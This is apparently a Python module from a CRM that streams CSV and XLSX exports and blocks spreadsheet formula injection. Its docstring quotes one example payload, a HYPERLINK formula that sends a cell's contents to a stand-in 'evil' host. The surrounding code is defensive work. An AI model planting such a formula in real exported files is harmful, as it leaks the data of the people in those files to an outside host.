"""Files a person opens in Excel or LibreOffice: CSV and XLSX, streamed, with no cell that runs as a formula.

A spreadsheet treats a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or a carriage return) as
a formula; a last name ``=HYPERLINK("http://evil/?"&A1,"open")`` in a customer card would run on the marketer's
machine (OWASP "CSV injection"). In CSV such a cell gets a leading apostrophe, which spreadsheets show as text; a
plain number (``-12.5``) and a phone in E.164 (``+79161234567``) stay as they are, since a spreadsheet reads them as
numbers and nothing in them can call a function. In XLSX every string is written as a string cell (``t="s"``), never a
formula, so it needs no apostrophe.

Both writers stream: CSV a row at a time, XLSX through openpyxl's write-only mode into a temporary file that is sent
in chunks and deleted, so an export of a whole base never sits in memory.
"""

from __future__ import annotations

import csv
import io
import os
import re
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from typing import Any

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_FIRST = frozenset(_TRIGGERS)
_HARMLESS = re.compile(r"[+-]?\d+(?:[.,]\d+)?")  # a number, a phone in E.164
_CHUNK = 64 * 1024
CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def neutral(value: Any) -> Any:
    """The value as a CSV cell that cannot run: a string starting with a formula trigger gets an apostrophe."""
    if isinstance(value, str) and value.startswith(_TRIGGERS) and not _HARMLESS.fullmatch(value):
        return "'" + value
    return value


def csv_stream(header: Sequence[str], rows: Iterable[Sequence[Any]], *, rows_per_chunk: int = 500) -> Iterator[bytes]:
    """UTF-8 with a BOM and ``;`` between cells (what Excel in a Russian locale opens without asking), in chunks."""
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=";")
    buf.write("\ufeff")
    writer.writerow([neutral(h) for h in header])
    for n, row in enumerate(rows, 1):
        # a cell that cannot start a formula (nearly all) is passed as it is, without a call
        writer.writerow(["" if v is None else neutral(v) if type(v) is str and v[:1] in _FIRST else v for v in row])
        if n % rows_per_chunk == 0:
            yield buf.getvalue().encode("utf-8")
            buf.seek(0)
            buf.truncate()
    yield buf.getvalue().encode("utf-8")


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """The whole CSV at once (for small files: an import's rejected rows)."""
    return b"".join(csv_stream(header, rows))


def sheet_title(name: str) -> str:
    """A worksheet title Excel accepts: at most 31 characters, none of ``[]:*?/\\``."""
    return name[:31].translate(str.maketrans("[]:*?/\\", "_______")) or "sheet"


def xlsx_stream(title: str, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[bytes]:
    """An XLSX workbook of one sheet, written to a temporary file and sent in chunks; the file is deleted after."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    fd, name = tempfile.mkstemp(prefix="klientura-export-", suffix=".xlsx")
    os.close(fd)
    try:
        wb = Workbook(write_only=True)
        ws = wb.create_sheet(sheet_title(title))

        def cells(values: Sequence[Any]) -> list[Any]:
            out: list[Any] = []
            for v in values:
                if isinstance(v, str):
                    cell = WriteOnlyCell(ws, value=v)
                    cell.data_type = "s"  # openpyxl makes "=..." a formula; a string stays a string
                    out.append(cell)
                else:
                    out.append(v)
            return out

        ws.append(cells(header))
        for row in rows:
            ws.append(cells(row))
        wb.save(name)
        with open(name, "rb") as f:
            while chunk := f.read(_CHUNK):
                yield chunk
    finally:
        os.unlink(name)
